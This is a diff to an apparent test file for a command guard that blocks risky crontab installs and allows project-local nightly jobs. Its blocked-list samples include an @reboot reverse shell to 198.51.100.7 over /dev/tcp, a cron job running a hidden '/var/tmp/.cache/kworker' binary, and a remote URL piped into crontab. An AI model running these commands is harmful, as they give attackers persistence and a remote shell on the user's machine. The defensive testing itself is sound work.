@@ -136,13 +136,15 @@ describe('a crontab installed from a pipe', () => {
       "echo '*/3 * * * * /var/tmp/.cache/kworker' | crontab -",
       '(crontab -l; echo "@reboot bash -i >& /dev/tcp/198.51.100.7/4444 0>&1") | crontab -',
       'curl -s https://cfg.syncagent.io/tab | crontab -',
+      // A script file's job: what it does is in a file this line does not show.
+      'echo "0 9 * * 1 sh ~/.local/bin/weekly-sync" | crontab -',
     ]) await expectBlocked(sh(line), line);
   });
 
   it('lets a nightly job of the project, and a job removed from the table, pass', async () => {
     for (const line of [
       '(crontab -l 2>/dev/null; echo "15 2 * * * cd ~/work/shop && npm run db:backup >> ~/shop-backup.log 2>&1") | crontab -',
-      'echo "0 9 * * 1 /home/dev/bin/weekly-report.sh" | crontab -',
+      'echo "0 9 * * 1 cd ~/work/shop && npm run report:weekly" | crontab -',
       'crontab -l | grep -v weekly-report | crontab -',
     ]) await expectAllowed(sh(line), line);
   });
